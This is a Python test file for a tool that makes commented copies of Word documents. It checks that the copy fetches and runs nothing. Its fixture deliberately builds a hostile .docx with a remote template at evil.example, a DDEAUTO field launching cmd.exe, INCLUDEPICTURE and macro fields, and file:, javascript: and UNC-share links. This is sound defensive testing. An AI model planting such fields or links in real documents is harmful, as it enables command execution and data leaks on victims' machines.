"""A copy with comments does nothing but be read: it fetches nothing, and starts nothing."""

from __future__ import annotations

import io
import re
import zipfile

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from lxml import etree

from premark.report.commented import with_notes

TEMPLATE = RT.IMAGE.replace("/image", "/attachedTemplate")
LEADS = {
    "http://a.example/x": True, "https://a.example": True, "mailto:a@b.example": True,
    "HTTPS://a.example": True, "file:///etc/passwd": False, "javascript:alert(1)": False,
    "\\\\evil.example\\share\\x": False, "ms-word:ofe|u|http://evil.example": False,
    "data:text/html,x": False, "other.docx": False, "//evil.example": False,
    "ftp://a.example": False,
}  # fmt: skip
FIELDS = {
    "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"": False, "DDE excel a": False,
    "INCLUDEPICTURE \"http://evil.example/x.png\" \\d": False, "includetext \"c:\\\\x\"": False,
    "LINK Excel.Sheet.8 x": False, "MACROBUTTON x y": False, "IMPORT x": False,
    "HYPERLINK \"file:///x\"": False, "HYPERLINK javascript:x": False,
    "HYPERLINK \"http://a.example\"": True, "HYPERLINK \\l \"_Toc1\"": True, "PAGE": True,
    "TOC \\o \"1-3\"": True, "REF here": True, "SEQ Figure": True, "": True,
}  # fmt: skip


def part_of(kind: str, value: str | None = None) -> object:
    element = OxmlElement(f"w:{kind}")
    if value is not None:
        element.set(qn("w:fldCharType"), value)
    return element


def field(paragraph: object, code: str, *, cut: int = 3) -> None:
    """A field whose code is cut into pieces, with words that it last showed."""
    for kind in ("begin", *(code[i : i + cut] for i in range(0, len(code), cut)), "separate"):
        run = paragraph.add_run()._r  # type: ignore[attr-defined]
        if kind in ("begin", "separate"):
            run.append(part_of("fldChar", kind))
        else:
            piece = OxmlElement("w:instrText")
            piece.text = kind
            run.append(piece)
    paragraph.add_run("last shown")  # type: ignore[attr-defined]
    paragraph.add_run()._r.append(part_of("fldChar", "end"))  # type: ignore[attr-defined]


def hostile() -> bytes:
    """A learner's file with every kind of thing that a program would fetch or start."""
    paper = docx.Document()
    settings = paper.part._settings_part
    named = OxmlElement("w:attachedTemplate")
    home = "http://evil.example/t.dotm"
    named.set(qn("r:id"), settings.relate_to(home, TEMPLATE, is_external=True))
    settings.element.append(named)
    for kind in (RT.IMAGE, RT.OLE_OBJECT, RT.VIDEO, RT.AUDIO):
        paper.part.relate_to("http://evil.example/x", kind, is_external=True)
    for target in LEADS:
        paper.part.relate_to(target, RT.HYPERLINK, is_external=True)
    for where in (paper, paper.sections[0].header):
        for code in FIELDS:
            field(where.add_paragraph("Coaching helps. "), code)
            simple = OxmlElement("w:fldSimple")
            simple.set(qn("w:instr"), code)
            where.add_paragraph()._p.append(simple)
    out = io.BytesIO()
    paper.save(out)
    return out.getvalue()


@pytest.fixture(scope="module")
def copy() -> bytes:
    return with_notes(hostile(), "a.docx", [])


def test_nothing_leads_out_of_the_copy_but_links_to_the_web(copy: bytes) -> None:
    out = set()
    with zipfile.ZipFile(io.BytesIO(copy)) as package:
        for name in package.namelist():
            if name.endswith(".rels"):
                for relation in etree.fromstring(package.read(name)):
                    if relation.get("TargetMode") == "External":
                        out.add((relation.get("Type").rpartition("/")[2], relation.get("Target")))
    links = {target for kind, target in out if kind == "hyperlink"}
    assert links == {target for target, well in LEADS.items() if well} | {"about:blank"}
    assert {target for kind, target in out if kind != "hyperlink"} == {"about:blank"}


def test_no_field_of_the_copy_runs_and_the_others_stay(copy: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(copy)) as package:
        for name in ("word/document.xml", "word/header1.xml"):
            root = etree.fromstring(package.read(name))
            simple = [e.get(qn("w:instr")) for e in root.iter(qn("w:fldSimple"))]
            whole = re.sub(r"\s*QUOTE \"\"\s*", "|", "".join(
                e.text or "" for e in root.iter(qn("w:instrText"))))  # fmt: skip
            kept = [code for code, well in FIELDS.items() if well]
            assert [code for code in simple if "QUOTE" not in code] == kept
            assert all(code in whole for code in kept) and whole.count("|") >= 6
            assert not re.search("(?i)dde|include|macro|import|javascript|file:", whole)


def test_the_words_of_the_copy_are_those_of_the_file(copy: bytes) -> None:
    def words(data: bytes) -> list[str]:
        return [paragraph.text for paragraph in docx.Document(io.BytesIO(data)).paragraphs]

    assert words(copy) == words(hostile()) and "Coaching helps. last shown" in words(copy)


def test_no_template_from_elsewhere_is_asked_for(copy: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(copy)) as package:
        assert b"attachedTemplate r:id" not in package.read("word/settings.xml")
